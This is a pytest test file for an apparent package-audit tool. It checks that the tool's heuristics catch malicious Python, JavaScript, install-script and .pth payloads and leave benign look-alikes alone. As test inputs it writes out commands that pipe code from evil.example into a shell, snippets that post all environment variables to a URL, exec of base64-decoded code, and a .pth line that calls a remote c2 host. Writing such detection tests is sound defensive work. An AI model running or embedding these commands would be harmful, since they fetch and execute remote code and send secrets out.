"""Every heuristic rule with the payload shapes it must catch and the look-alikes it must not."""

from __future__ import annotations

import pytest

from jackstop.audit.findings import Severity
from jackstop.audit.heuristics.javascript import analyze_install_script, analyze_js, script_targets
from jackstop.audit.heuristics.python import analyze_python
from jackstop.audit.startup import grade_pth_line
from tests.audit import fakes

MALICIOUS_PY = [
    ("litellm-1.82.7-stealer", fakes.LITELLM_STEALER, {"credential-sweep", "persistence"}, Severity.CRITICAL),
    ("ultralytics-8.3.46", fakes.ULTRALYTICS_46, {"download-exec", "miner"}, Severity.CRITICAL),
    ("ultralytics-8.3.41", fakes.ULTRALYTICS_41, {"download-exec"}, Severity.MEDIUM),
    ("env-to-webhook", fakes.ENV_TO_WEBHOOK, {"env-dump"}, Severity.CRITICAL),
    ("key-to-pastebin", fakes.KEY_TO_PASTEBIN, {"key-to-exfil-host"}, Severity.CRITICAL),
    ("exec-decoded", fakes.EXEC_DECODED, {"exec-decoded"}, Severity.CRITICAL),
    ("litellm-1.82.8-pth", fakes.LITELLM_PTH, {"spawn-encoded"}, Severity.CRITICAL),
]


@pytest.mark.parametrize("name,source,rules,worst", MALICIOUS_PY, ids=[m[0] for m in MALICIOUS_PY])
def test_python_payloads_are_caught(name: str, source: str, rules: set[str], worst: Severity) -> None:
    hits = analyze_python(source)
    assert rules <= {h.rule for h in hits}, hits
    assert max(h.severity for h in hits) >= worst
    assert all(h.line >= 1 for h in hits)


BENIGN_PY = {
    "sdk-reads-its-own-key": fakes.BENIGN_SDK,
    "aws-sdk-reads-its-own-credentials": fakes.BENIGN_AWS_SDK,
    "decode-without-exec-and-plain-exec": fakes.BENIGN_DECODE,
    "dotenv-loader": fakes.BENIGN_DOTENV,
    "single-env-reads-and-requests": fakes.BENIGN_ENV_READS,
}


@pytest.mark.parametrize("name", sorted(BENIGN_PY))
def test_python_lookalikes_are_not_flagged(name: str) -> None:
    assert analyze_python(BENIGN_PY[name], force=True) == []


def test_aliased_imports_and_dunder_import_are_resolved() -> None:
    src = "from base64 import b64decode as d\nexec(d('aW1wb3J0IG9z'))\n"
    assert [h.rule for h in analyze_python(src)] == ["exec-decoded"]
    src2 = "exec(__import__('zlib').decompress(b'x'))\n"
    assert [h.rule for h in analyze_python(src2, force=True)] == ["exec-decoded"]


@pytest.mark.parametrize("src,rule", [
    ("import zlib, base64\ncode = zlib.decompress(base64.b64decode(B)).decode()\nexec(compile(code, '<x>', 'exec'))\n",
     "exec-decoded"),
    ("import base64 as b\nexec(b.b64decode(B))\n", "exec-decoded"),
    ("import os, requests\nrequests.post(U, json={k: v for k, v in os.environ.items()})\n", "env-dump"),
    ("import os, requests\nrequests.post(U, json=dict(os.environ))\n", "env-dump"),
    ("import os, json, urllib.request\nurllib.request.urlopen(U, data=json.dumps(dict(os.environ)).encode())\n",
     "env-dump"),
])
def test_payload_variants_pass_the_gate_and_are_caught(src: str, rule: str) -> None:
    assert rule in {h.rule for h in analyze_python(src)}


def test_unparseable_source_still_gets_string_rules() -> None:
    src = "print 'py2'\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"
    assert [h.rule for h in analyze_python(src)] == ["spawn-encoded"]


def test_nx_telemetry_js_is_caught() -> None:
    rules = {h.rule: h for h in analyze_js(fakes.NX_TELEMETRY_JS)}
    assert {"ai-cli-abuse", "env-dump"} <= set(rules)
    assert rules["ai-cli-abuse"].severity == Severity.CRITICAL


def test_js_decoded_eval_is_caught() -> None:
    src = "const p = 'aW1wb3J0'; eval(Buffer.from(p, 'base64').toString());"
    assert [h.rule for h in analyze_js(src)] == ["exec-decoded"]


def test_benign_install_js_is_not_flagged() -> None:
    assert analyze_js(fakes.BENIGN_INSTALL_JS) == []


@pytest.mark.parametrize("cmd,rule", [
    ("curl -s https://evil.example/x.sh | sh", "install-download-exec"),
    ("wget -q https://evil.example/payload && chmod +x payload && ./payload", "install-download-exec"),
    ("powershell -c iwr https://evil.example/a.ps1 | iex", "install-download-exec"),
    ("node -e \"require('https').get('https://x.example')\"", "install-network"),
])
def test_install_commands_that_fetch_are_flagged(cmd: str, rule: str) -> None:
    assert rule in {h.rule for h in analyze_install_script(cmd)}


@pytest.mark.parametrize("cmd", ["node-gyp rebuild", "prebuild-install || node-gyp rebuild", "husky install", "node install.js"])
def test_routine_install_commands_are_not_flagged(cmd: str) -> None:
    assert analyze_install_script(cmd) == []


def test_script_targets() -> None:
    assert script_targets("node ./telemetry.js && sh scripts/setup.sh") == ["./telemetry.js", "scripts/setup.sh"]


@pytest.mark.parametrize("name,line,expected", [
    ("distutils-precedence.pth",
     "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
     "enabled and __import__('_distutils_hack').add_shim(); ", Severity.INFO),
    ("__editable__.foo-1.0.pth", "import __editable___foo_1_0_finder; __editable___foo_1_0_finder.install()", Severity.INFO),
    ("_virtualenv.pth", "import _virtualenv", Severity.INFO),
    ("mystery.pth", "import mystery_hook", Severity.MEDIUM),
    ("litellm_init.pth", fakes.LITELLM_PTH.strip(), Severity.CRITICAL),
    ("evil.pth", "import urllib.request; urllib.request.urlopen('https://x.example/c2')", Severity.CRITICAL),
    ("distutils-precedence.pth", "import os;exec(__import__('base64').b64decode('aW1wb3J0IG9z'))", Severity.CRITICAL),
])
def test_pth_grading(name: str, line: str, expected: Severity) -> None:
    assert grade_pth_line(name, line)[0] == expected
